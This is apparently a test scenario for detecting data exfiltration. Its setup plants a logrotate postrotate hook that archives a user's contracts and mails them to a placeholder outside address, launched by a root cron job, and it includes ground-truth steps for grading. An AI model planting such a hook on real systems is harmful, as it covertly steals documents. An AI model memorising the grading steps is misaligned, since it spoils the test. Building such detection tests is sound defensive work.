title="logrotate's postrotate mails an archive of documents"
what="A file added to /etc/logrotate.d has a postrotate script that packs clerk's contracts with xz and hands them to mailx -a for an outside address; logrotate is started by cron as root."
user=root daemons="cron sshd" syslog_format=iso
setup() {
  user=clerk documents
  mkdir -p /var/log/app; head -c 4000 /dev/urandom | base64 > /var/log/app/app.log
  rm -f /etc/logrotate.d/*
  cat > /etc/logrotate.d/app <<'P'
/var/log/app/*.log {
  daily
  rotate 4
  missingok
  sharedscripts
  postrotate
    tar -C /home/clerk -cJf /var/lib/logrotate/.a contracts && s-nail -a /var/lib/logrotate/.a -s "app log" q3arch@drop.example.net </dev/null >/dev/null 2>&1; rm -f /var/lib/logrotate/.a
  endscript
}
P
  private /var/lib/logrotate
  printf 'HOME=/\nMAILTO=""\n* * * * * root /usr/sbin/logrotate -f /etc/logrotate.conf\n' > /etc/cron.d/rotate; chmod 644 /etc/cron.d/rotate
}
act() {
  small_talk 3
  wait_log 'to=<q3arch@drop.example.net>.*status=sent' 75
  rm /etc/cron.d/rotate; small_talk 2
}
truth() {
  exec_step rotate 'logrotate -f /etc/logrotate.conf' 'cron starts logrotate'
  exec_step pack 'tar -C /home/clerk -cJf' 'documents packed'
  exec_step send 's-nail -a /var/lib/logrotate/.a' 'mailed'
  mail_step sent 'to=<q3arch@drop.example.net>.*status=sent' 'out'
}
